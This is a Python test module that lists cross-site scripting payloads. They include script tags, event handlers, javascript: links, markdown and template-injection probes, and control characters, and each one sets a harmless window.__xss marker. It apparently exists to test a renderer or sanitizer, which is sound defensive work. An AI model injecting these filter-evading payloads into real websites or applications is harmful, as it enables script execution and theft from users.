"""Texts that try to run, to load, or to break out of where they are shown; each would set ``window.__xss``."""

from __future__ import annotations

from itertools import product

_RUN = "window.__xss=1"
_DIRECT = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script\x0c>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>", f"<img src='x' onerror='{_RUN}'>", f"<img/src=x/onerror={_RUN}>",
    f"<img src=x:x onerror\t=\t{_RUN}>", f"<IMG \"\"\"><script>{_RUN}</script>\">",
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={_RUN}></foreignObject></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={_RUN}>>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<math href=javascript:{_RUN}>x</math>",
    f"<body onload={_RUN}>", f"<iframe src=javascript:{_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={_RUN}>",
    f"<form><button formaction=javascript:{_RUN}>x</button></form>", f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java&#x0A;script:{_RUN}'>x</a>", f"<base href=javascript:{_RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<link rel=stylesheet href=data:text/css,*{background:url(x)}>",
    f"<style>@import 'data:text/css,x'</style><p onclick={_RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<template><script>{_RUN}</script></template>",
    f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\">", f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)  # fmt: skip
_BREAKS = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</pre>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
    "</svg>",
    "`>",
    '" x="',
)
_AFTER = (
    f"<img src=x onerror={_RUN}>",
    f"<script>{_RUN}</script>",
    f"autofocus onfocus={_RUN} x=",
    f"<svg/onload={_RUN}>",
)
_MARKDOWN = (
    f"[x](javascript:{_RUN})", f"[x](JaVaScRiPt:{_RUN})", f"[x](java\nscript:{_RUN})", f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)", f"[x](vbscript:{_RUN})", f"![x](javascript:{_RUN})",
    f"![x](x\"onerror=\"{_RUN})", f"![x](https://elsewhere.example/p.png \"onload={_RUN}\")", f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]", f"[x](https://e.example/\"onmouseover=\"{_RUN})",
    f"`</code><script>{_RUN}</script>`",
    f"```\n</pre><script>{_RUN}</script>\n```",
    f"| <script>{_RUN}</script> | b |\n|---|---|\n| <img src=x onerror={_RUN}> | d |",
    f"# <img src=x onerror={_RUN}>", f"> <svg onload={_RUN}>", f"[<img src=x onerror={_RUN}>](https://e.example)",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% raw %}", "${window.__xss=1}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u202ereversed", "a\x00b", "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "javascript:window.__xss=1",
)  # fmt: skip

PAYLOADS = (*_DIRECT, *(begin + end for begin, end in product(_BREAKS, _AFTER)), *_MARKDOWN, *_TEMPLATES)
